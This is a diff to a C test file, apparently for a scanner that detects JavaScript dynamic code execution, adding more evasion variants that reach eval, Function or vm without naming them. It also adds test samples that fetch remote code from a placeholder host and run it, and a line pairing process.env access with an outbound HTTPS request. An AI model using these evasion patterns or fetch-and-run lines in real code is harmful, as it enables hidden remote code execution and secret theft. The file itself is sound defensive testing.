@@ -50,7 +50,8 @@ static const char *const executing[] = {
 	"var F=Function,g=1;F" P "()", "(function(F,a){F" P "()})(Function,1)", "var o={f:Function};o.f" P "()", "(Function||0)" P "()",
 	"(Function ?? 0)" P "()", "(1 ? Function : 0)" P "()", "var F=globalThis.Function;F" P "()", "const {Function:F}=globalThis;F" P "()",
 	"class X extends Function {};new X" P "()", "var c=" P ";class A extends Function(c) {}\nnew A", "var q=\\u0046unction;q" P "()",
-	"x;F\\u{0075}nction" P "()", "eva\\u{006c}" P, "(0,require('vm').runInContext)" P, NULL};
+	"x;F\\u{0075}nction" P "()", "eva\\u{006c}" P, "var e=Function. bind(0);e" P "()", "var e=Function.\nbind(0);e" P "()", "(0,require('vm').runInContext)" P,
+	"new (require('vm').SourceTextModule)" P, NULL};
 
 /* Ways to them that do not name them. */
 static const char *const ways[] = {
@@ -59,7 +60,7 @@ static const char *const ways[] = {
 	"(()=>{}).constructor.call(0," P ")()", "(()=>{}).constructor.bind(0)" P "()", "(()=>{}).constructor?." P "()", "new ((()=>{}).constructor)" P "()",
 	"let {constructor:F}=()=>{};F" P "()", "let { constructor : F } = () => {};F" P "()", "let {constructor}=()=>{};constructor" P "()",
 	"(()=>{}).constructor(0||" P ")()", "(()=>{}).constructor(+0||" P ")()", "(()=>{}).constructor({}&&" P ")()", "(()=>{}).constructor({}.x||" P ")()",
-	"var k='constructor';(()=>{})[k]" P "()",
+	"var k='constructor';(()=>{})[k]" P "()", "var {'constructor':F}=()=>{};F" P "()", "(1?(()=>{}).constructor:0)" P "()",
 	"var g=globalThis;g['ev'+\"al\"]" P, "var g=globalThis;g['\\145val']" P, "var g=globalThis,k='ev';g[k+'al']" P, "var g=globalThis,k='e',l='val';g[k+l]" P,
 	"var g=globalThis,k='ev';g[`${k}al`]" P, "globalThis ['xeval'.slice(1)]" P, "globalThis/**/['xeval'.slice(1)]" P, "globalThis\n['xeval'.slice(1)]" P,
 	"(globalThis)['xeval'.slice(1)]" P, "(0,globalThis)['xeval'.slice(1)]" P, "var g=globalThis,k = 'eval' \ng[k]" P,
@@ -104,7 +105,8 @@ static void test_padded(void **state)
 {
 	static const char *const codes[] = {
 		"eval" P, "eval\r" P, "const F = Function;F" P "()", "const F = Function;fetch('https://x.example.invalid').then(r=>r.text()).then(t=>F(t)())",
-		"fetch('https://x.example.invalid').then(r=>r.text()).then(t=>eval\r(t))", ENV "fetch?." TO, ENV "var f=fetch;f" TO, NULL};
+		"fetch('https://x.example.invalid').then(r=>r.text()).then(t=>eval\r(t))", ENV "fetch?." TO, ENV "var f=fetch;f" TO,
+		"var {env:e}=process;require('https')" HOST, NULL};
 	static char padded[(40u << 10) + 1024];
 
 	(void)state;
